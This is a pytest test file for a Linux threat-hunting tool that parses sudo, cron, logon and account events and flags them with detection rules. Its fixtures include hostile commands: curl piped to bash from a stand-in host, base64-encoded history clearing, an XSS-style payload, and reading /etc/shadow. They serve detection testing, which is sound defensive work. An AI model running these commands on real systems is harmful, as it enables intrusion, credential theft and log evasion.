"""Session detail and user activity functions: real Sentinel sudo exports (msticpy) and small frames."""

from __future__ import annotations

import csv
import re
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest

from hunting.analysis import session_detail as sd
from hunting.analysis.risky import RuleError, load_rules
from hunting.analysis.sudo import sudo_events, sudo_sessions
from hunting.schema import ACCOUNTS, CRON, LOGONS, SUDO, SYSLOG, conform

T0 = pd.Timestamp("2026-01-01 10:00:00", tz="UTC")
# Independent of the parser: the name before " : ", USER= and COMMAND= of each sudo command line.
_GREP = re.compile(r"^\s*(?P<sudoer>\S+) : .*?USER=(?P<runas>\S+)\s.*?COMMAND=(?P<command>.*?)\s*$")


def _sentinel(shared_data: Path, name: str) -> pd.DataFrame:
    raw = pd.read_csv(
        shared_data / "msticpy" / name, encoding="utf-8-sig", keep_default_na=False, na_values=[""]
    )
    return conform(raw, SYSLOG)


def _grep_commands(shared_data: Path, name: str) -> Counter[tuple[str, str, str]]:
    with open(shared_data / "msticpy" / name, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    found = (_GREP.match(r["SyslogMessage"]) for r in rows if "COMMAND=" in r["SyslogMessage"])
    return Counter((m["sudoer"], m["runas"], m["command"]) for m in found if m)


def _counts(frame: pd.DataFrame) -> Counter[tuple[str, str, str]]:
    return Counter(
        {(str(r.Sudoer), str(r.RunAs), str(r.Command)): int(r.Count) for r in frame.itertuples(index=False)}
    )


# --- real Sentinel exports ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["sudo_events.csv", "sudo_data_speed.csv", "sudo_session_test.csv"])
def test_sudo_command_counts_sentinel_sudoer_runas_command_exact(shared_data: Path, name: str) -> None:
    counts = sd.sudo_command_counts(sudo_events(_sentinel(shared_data, name)))
    expected = _grep_commands(shared_data, name)
    assert expected  # the file has sudo command lines
    assert _counts(counts) == expected
    assert list(counts.columns) == list(sd.SUDO_COUNT_COLUMNS)
    assert counts["Count"].is_monotonic_decreasing


def test_sudo_command_counts_sentinel_speed_values(shared_data: Path) -> None:
    # grep COMMAND= sudo_data_speed.csv: 11 lines, all by peteb; /usr/bin/top twice (two PWDs);
    # PerformRequiredConfigurationChecks.py is the one run as omsagent.
    counts = sd.sudo_command_counts(sudo_events(_sentinel(shared_data, "sudo_data_speed.csv")))
    assert int(counts["Count"].sum()) == 11
    assert set(counts["Sudoer"]) == {"peteb"}
    top = counts.iloc[0]
    assert (top["Command"], top["Count"]) == ("/usr/bin/top", 2)
    oms = counts[counts["RunAs"] == "omsagent"]
    assert oms["Command"].tolist() == [
        "/opt/microsoft/omsconfig/Scripts/PerformRequiredConfigurationChecks.py"
    ]


def test_sudo_events_sentinel_kql_command_columns(shared_data: Path) -> None:
    # sudo_events.csv carries Microsoft's KQL output: our Command and CommandBinary equal its Command
    # and CommandCall; its Sudoer is empty, the line says "peteb : ... USER=root".
    raw = pd.read_csv(shared_data / "msticpy" / "sudo_events.csv", encoding="utf-8-sig")
    kql = raw[raw["SyslogMessage"].str.contains("COMMAND=", regex=False)]
    ev = sudo_events(_sentinel(shared_data, "sudo_events.csv"))
    assert ev["Command"].tolist() == kql["Command"].tolist() == ["/usr/sbin/squid"]
    assert ev["CommandBinary"].tolist() == kql["CommandCall"].tolist()
    assert (ev["Sudoer"].tolist(), ev["RunAs"].tolist()) == (["peteb"], ["root"])


def test_flag_sudo_sessions_sentinel_shell_and_burst(shared_data: Path) -> None:
    syslog = _sentinel(shared_data, "sudo_session_test.csv")
    sudo = sudo_events(syslog)
    sessions = sudo_sessions(syslog, sudo)
    # COMMAND= lines at 02:47:12, 02:47:26 and 02:47:40: three within 28 s (inclusive).
    flagged = sd.flag_sudo_sessions(sessions, sudo, n=3, seconds=28)
    assert len(flagged) == len(sessions)
    burst = flagged[flagged["InBurst"]]
    assert sorted(c for cmds in burst["Commands"] for c in cmds) == [
        "/bin/bash", "/usr/bin/vim rc.local", "/usr/sbin/squid",
    ]  # fmt: skip
    assert flagged.loc[flagged["Shell"], "Commands"].tolist() == [["/bin/bash"]]
    assert flagged["Flagged"].tolist()[:3] == [True, True, True]
    assert int(flagged["Flagged"].sum()) == 3
    # One second less and no three commands fit: only the shell stays flagged.
    tighter = sd.flag_sudo_sessions(sessions, sudo, n=3, seconds=27)
    assert not tighter["InBurst"].any()
    assert tighter.loc[tighter["Flagged"], "Commands"].tolist() == [["/bin/bash"]]


def test_sudo_raw_messages_sentinel_lines_and_pam(shared_data: Path) -> None:
    syslog = _sentinel(shared_data, "sudo_session_test.csv")
    raw = sd.sudo_raw_messages(syslog, sudo_events(syslog), "/usr/sbin/squid -NCd1")
    # grep: two COMMAND=/usr/sbin/squid -NCd1 lines, each with its "session opened" at the same second.
    assert raw["SyslogMessage"].str.contains("COMMAND=/usr/sbin/squid -NCd1", regex=False).sum() == 2
    assert raw["SyslogMessage"].str.startswith("pam_unix(sudo:session): session opened").sum() == 2
    assert len(raw) == 4
    assert raw["TimeGenerated"].is_monotonic_increasing


# --- scope ----------------------------------------------------------------------------------


def test_session_window_no_session_is_the_range() -> None:
    w = sd.session_window(None, T0, T0 + pd.Timedelta("1D"))
    assert (w.start, w.end, w.session) == (T0, T0 + pd.Timedelta("1D"), False)


def test_session_window_open_ends_filled_from_range() -> None:
    start, end = T0 - pd.Timedelta("1D"), T0 + pd.Timedelta("1D")
    w = sd.session_window({"Start": T0, "End": pd.NaT}, start, end)
    assert (w.start, w.end, w.session) == (T0, end, True)
    w = sd.session_window({"Start": None, "End": T0}, start, end)
    assert (w.start, w.end) == (start, T0)
    # naive times are UTC
    w = sd.session_window({"Start": "2026-01-01 10:00:00", "End": "2026-01-01 11:00:00"}, start, end)
    assert (w.start, w.end) == (T0, T0 + pd.Timedelta("1h"))


def test_in_window_includes_both_ends_and_drops_missing_times() -> None:
    df = pd.DataFrame(
        {"TimeGenerated": pd.Series([T0, T0 + pd.Timedelta("1min"), T0 + pd.Timedelta("2min"), pd.NaT])}
    )
    w = sd.Window(T0, T0 + pd.Timedelta("1min"), True)
    assert sd.in_window(df, w).index.tolist() == [0, 1]


def test_host_key_short_lower() -> None:
    assert sd.host_key("WEB01.contoso.com") == sd.host_key("web01") == "web01"
    assert sd.host_key("10.0.0.5") == "10.0.0.5"


def test_session_label_is_plain_text() -> None:
    label = sd.session_label({"User": "deploy", "SessionType": "sshd", "SourceIP": "1.2.3.4", "ProcessID": 7,
                              "SessionId": "abc", "End": pd.NaT})  # fmt: skip
    assert label == "deploy via sshd, from 1.2.3.4, pid 7, session abc"


# --- timeline, cron, accounts ---------------------------------------------------------------


def _frames() -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    t = [T0 + pd.Timedelta(seconds=s) for s in range(10)]
    logons = conform(pd.DataFrame({
        "TimeGenerated": [t[0], t[1], t[2]], "Computer": "h", "User": ["bob", "bob", "eve"],
        "Result": ["Failure", "Notice", "Success"], "LogonType": "password", "SourceIP": ["1.1.1.1", None, "2.2.2.2"],
        "Count": [3, 1, 1],
    }), LOGONS)  # fmt: skip
    sudo = conform(pd.DataFrame({
        "TimeGenerated": [t[3], t[4]], "Computer": "h", "Sudoer": ["eve", "eve"], "RunAs": "root",
        "Command": ["/bin/bash", "/usr/bin/id"], "CommandBinary": ["/bin/bash", "/usr/bin/id"],
        "Result": ["Success", "Failure"],
    }), SUDO)  # fmt: skip
    cron = conform(pd.DataFrame({
        "TimeGenerated": [t[5], t[6], t[7], t[8]], "Computer": "h", "User": "root",
        "Action": ["run", "begin_edit", "replace", "list"], "Command": ["/x.sh", "root", "root", "root"],
        "SyslogMessage": ["(root) CMD (/x.sh)", "(root) BEGIN EDIT (root)", "(root) REPLACE (root)", "(root) LIST (root)"],
    }), CRON)  # fmt: skip
    accounts = conform(pd.DataFrame({
        "TimeGenerated": [t[9], t[9]], "Computer": "h", "Action": ["user_add", "group_member_add"],
        "User": ["mal", "mal"], "Group": [None, "wheel"], "UID": [0, None],
        "SyslogMessage": ["new user: name=mal, UID=0", "add 'mal' to group 'wheel'"],
    }), ACCOUNTS)  # fmt: skip
    return logons, sudo, cron, accounts


def test_session_timeline_one_row_per_event_by_kind() -> None:
    tl = sd.session_timeline(*_frames())
    assert list(tl.columns) == list(sd.TIMELINE_COLUMNS)
    # Notice logons and the crontab LIST are not events of the timeline.
    assert tl["Kind"].tolist() == ["Logons", "Logons", "sudo", "sudo", "Cron runs", "Cron edits", "Cron edits",
                                   "Account changes", "Account changes"]  # fmt: skip
    assert tl["TimeGenerated"].is_monotonic_increasing
    assert tl.loc[2, "What"] == "as root: /bin/bash"
    assert tl.loc[8, "What"] == "group_member_add mal (wheel)"
    assert tl["Result"].tolist()[:4] == ["Failure", "Success", "Success", "Failure"]


def test_session_timeline_empty_frames() -> None:
    tl = sd.session_timeline(LOGONS.empty(), SUDO.empty(), CRON.empty(), ACCOUNTS.empty())
    assert tl.empty and list(tl.columns) == list(sd.TIMELINE_COLUMNS)


def test_sudo_command_counts_counts_failures() -> None:
    _, sudo, _, _ = _frames()
    counts = sd.sudo_command_counts(pd.concat([sudo, sudo]))
    assert _counts(counts) == Counter({("eve", "root", "/bin/bash"): 2, ("eve", "root", "/usr/bin/id"): 2})
    assert dict(zip(counts["Command"], counts["Failures"], strict=True)) == {"/bin/bash": 0, "/usr/bin/id": 2}


def test_cron_summary_top_and_edits() -> None:
    _, _, cron, _ = _frames()
    top = sd.cron_top_commands(cron)
    assert top[["User", "Command", "Runs"]].values.tolist() == [["root", "/x.sh", 1]]
    assert sd.cron_edits(cron)["Action"].tolist() == ["begin_edit", "replace"]


def test_cron_baseline_end_session_start_or_fraction() -> None:
    runs = conform(pd.DataFrame({"TimeGenerated": [T0, T0 + pd.Timedelta("4h")], "Action": "run"}), CRON)
    whole = sd.Window(T0 - pd.Timedelta("1D"), T0 + pd.Timedelta("1D"), False)
    assert sd.cron_baseline_end(runs, whole, 0.25) == T0 + pd.Timedelta("1h")
    session = sd.Window(T0 + pd.Timedelta("2h"), T0 + pd.Timedelta("3h"), True)
    assert sd.cron_baseline_end(runs, session) == T0 + pd.Timedelta("2h")


def test_account_summary_names_and_counts() -> None:
    _, _, _, accounts = _frames()
    summary = sd.account_summary(accounts)
    assert summary.values.tolist() == [["group_member_add", 1, "mal → wheel"], ["user_add", 1, "mal"]]
    assert sd.account_summary(ACCOUNTS.empty()).empty


# --- flags ----------------------------------------------------------------------------------


def test_flag_events_detections_use_findings_rules() -> None:
    _, sudo, cron, accounts = _frames()
    flags = sd.flag_events(sudo, cron, accounts)
    by_rule = {r.RuleId: r for r in flags.itertuples(index=False)}
    assert set(by_rule) == {"sudo.shell", "account.new_user", "account.privileged_group", "cron.crontab_edit"}
    specs = sd.default_specs()
    for rule_id, row in by_rule.items():
        assert row.Techniques == ", ".join(specs[rule_id].mitre)
    assert by_rule["sudo.shell"].Techniques == "T1548.003, T1059.004"
    assert by_rule["account.new_user"].Severity == "high"  # uid 0: findings.yaml severity_uid0
    assert by_rule["account.privileged_group"].Techniques == "T1098"
    assert by_rule["cron.crontab_edit"].Matched == "(root) REPLACE (root)"
    # the failed sudo of id is no shell and matches no rule
    assert "/usr/bin/id" not in " ".join(flags["Event"])


def test_flag_events_risky_rules_folded_and_decoded() -> None:
    t = [T0 + pd.Timedelta(minutes=m) for m in range(3)]
    cmd = "curl -fsSL http://203.0.113.5/x.sh | bash"
    cron = conform(pd.DataFrame({"TimeGenerated": t, "Computer": "h", "User": "root", "Action": "run",
                                 "Command": [cmd, cmd, "echo aGlzdG9yeSAtYyAmJiB1bnNldCBISVNURklMRQ== | base64 -d | sh"]}),
                   CRON)  # fmt: skip
    flags = sd.flag_events(SUDO.empty(), cron, ACCOUNTS.empty())
    pipe = flags[flags["RuleId"] == "lnx.download_pipe_shell"]
    assert pipe[["Count", "Severity", "Techniques", "Matched"]].values.tolist() == [
        [2, "high", "T1105, T1059.004", cmd]
    ]
    assert pipe["TimeGenerated"].tolist() == [t[0]] and pipe["LastSeen"].tolist() == [t[1]]
    # "history -c && unset HISTFILE" is only visible once decoded
    decoded = flags[flags["Matched"].str.endswith("(in decoded base64)")]
    assert "lnx.history_clear" in set(decoded["RuleId"])
    assert flags["Severity"].map({"high": 2, "medium": 1, "low": 0}).is_monotonic_decreasing


def test_flag_events_custom_rules_file(tmp_path: Path) -> None:
    rules_file = tmp_path / "mine.yaml"
    rules_file.write_text(
        "- id: my.id_probe\n  title: id run\n  severity: low\n  tags: [attack.t1033]\n"
        "  pattern: '\\bid\\b'\n  examples: {match: ['/usr/bin/id'], nomatch: ['idle']}\n"
    )
    _, sudo, _, _ = _frames()
    flags = sd.flag_events(sudo, CRON.empty(), ACCOUNTS.empty(), rules=load_rules(extra=[rules_file]))
    mine = flags[flags["RuleId"] == "my.id_probe"]
    assert mine[["User", "Techniques", "Matched", "Source"]].values.tolist() == [
        ["eve", "T1033", "id", sd.RISKY_RULE]
    ]


def test_custom_rules_file_bad_is_a_clear_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- id: my.rule\n  title: x\n")
    with pytest.raises(RuleError, match=r"bad\.yaml.*missing keys"):
        load_rules(extra=[bad])


def test_flag_events_nothing_to_flag_has_columns() -> None:
    flags = sd.flag_events(SUDO.empty(), CRON.empty(), ACCOUNTS.empty())
    assert flags.empty and list(flags.columns) == list(sd.FLAG_COLUMNS)


def test_flag_events_hostile_command_text_kept_verbatim() -> None:
    cmd = "curl http://x.example/a | sh #<img src=x onerror=alert(1)>"
    sudo = conform(pd.DataFrame({"TimeGenerated": [T0], "Sudoer": ["<b>eve</b>"], "RunAs": "root",
                                 "Command": [cmd], "CommandBinary": ["curl"], "Result": ["Success"]}), SUDO)  # fmt: skip
    flags = sd.flag_events(sudo, CRON.empty(), ACCOUNTS.empty())
    assert flags["User"].tolist() == ["<b>eve</b>"]  # escaping is the page's job (md / plain)
    assert "lnx.download_pipe_shell" in set(flags["RuleId"])


def test_flag_sudo_sessions_risky_command_and_no_sessions() -> None:
    cmd = "/bin/sh -c 'cat /etc/shadow'"
    sudo = conform(pd.DataFrame({"TimeGenerated": [T0], "Computer": "h", "Sudoer": "eve", "RunAs": "root",
                                 "Command": [cmd], "CommandBinary": ["/bin/sh"], "Result": ["Success"]}), SUDO)  # fmt: skip
    sessions = pd.DataFrame({"SessionId": ["s1"], "Computer": ["h"], "ProcessID": pd.array([pd.NA], dtype="Int64"),
                             "User": ["eve"], "RunAs": ["root"], "Start": [T0], "End": [T0 + pd.Timedelta("2s")],
                             "Commands": [[cmd]], "CommandCount": [1]})  # fmt: skip
    out = sd.flag_sudo_sessions(sessions, sudo, n=10, seconds=5)
    assert out[["RiskSeverity", "RiskRules", "InBurst", "Shell", "Flagged"]].values.tolist() == [
        # sudo.shell too: the session is rated by the same engine as the Findings page
        ["high", "lnx.read_shadow, sudo.shell", False, True, True]
    ]
    empty = sd.flag_sudo_sessions(sessions.iloc[0:0], sudo)
    assert empty.empty and "Flagged" in empty.columns


# --- users ----------------------------------------------------------------------------------


def test_users_seen_weighted_and_ordered() -> None:
    logons, sudo, _, _ = _frames()
    users = sd.users_seen(logons, sudo)
    # eve logged on; root only appears as sudo's run-as; bob only failed (3 by "repeated" Count)
    assert users.values.tolist() == [["eve", 1, 0, 2], ["bob", 0, 3, 0], ["root", 0, 0, 0]]


def test_user_logons_and_results_by_process() -> None:
    logons, sudo, _, _ = _frames()
    bob = sd.user_logons(logons, "bob")
    assert len(bob) == 2
    assert sd.results_by_process(bob.assign(ProcessName="sshd")).values.tolist() == [["sshd", "Failure", 3]]
    assert sd.user_sudo(sudo, "bob").empty
    assert len(sd.user_sudo(sudo, "eve")) == 2


def test_filter_messages_by_facility() -> None:
    syslog = conform(pd.DataFrame({"TimeGenerated": [T0 + pd.Timedelta("1s"), T0], "Facility": ["auth", None],
                                   "SyslogMessage": ["a", "b"]}), SYSLOG)  # fmt: skip
    assert sd.filter_messages(syslog)["SyslogMessage"].tolist() == ["b", "a"]
    assert sd.filter_messages(syslog, ["auth"])["SyslogMessage"].tolist() == ["a"]
    assert sd.filter_messages(syslog, [""])["SyslogMessage"].tolist() == ["b"]
    assert sd.facility_counts(syslog).to_dict() == {"auth": 1, "": 1}
